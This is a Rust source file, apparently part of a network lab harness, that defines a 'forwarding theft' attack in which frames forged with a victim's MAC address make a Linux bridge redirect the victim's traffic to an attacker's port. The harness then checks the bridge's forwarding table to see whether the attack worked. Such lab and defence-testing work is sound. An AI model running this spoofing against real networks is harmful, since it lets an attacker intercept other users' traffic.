//! A bridge learns where a MAC is from whoever last spoke with it. One frame with the victim's
//! source, whatever is in it, and the victim's traffic comes to the attacker's port. Filters in the
//! bridge's forward or input hook come too late: they drop the frame after the bridge has learned.

use super::Attack;
use crate::error::{Error, Result};
use crate::frame::{BROADCAST, ethernet, udp4};
use crate::person::{ATTACKER, GATEWAY, VICTIM};
use crate::scene::Scene;
use crate::stage::Stage;
use crate::talk::PORT;

/// Judged by the bridge's forwarding database. Every frame of the victim's takes its entry back, so the
/// attacker repeats itself.
pub(super) const THEFT: Attack = Attack {
    name: "forwarding theft",
    what: "frames with the victim's MAC",
    effect: "bridge believes it",
    scene: Scene::street,
    run: theft,
};

fn theft(stage: &Stage) -> Result<bool> {
    stage.acquaint(&stage.gateway, &stage.victim, VICTIM.v4().into())?;
    let behind = |device: &str| {
        let port = stage.lab.host.learned_port("br0", VICTIM.mac())?;
        Ok::<_, Error>(port.as_deref() == Some(device))
    };
    if !behind(VICTIM.device)? {
        return Err(Error::Baseline("nothing was learned"));
    }
    let frames = [
        ethernet(VICTIM.mac(), BROADCAST, 0x88b5, &[0; 46]),
        udp4(
            VICTIM.mac(),
            GATEWAY.mac(),
            (ATTACKER.v4(), GATEWAY.v4()),
            PORT,
        ),
    ];
    stage.attack(&frames, || behind(ATTACKER.device))
}
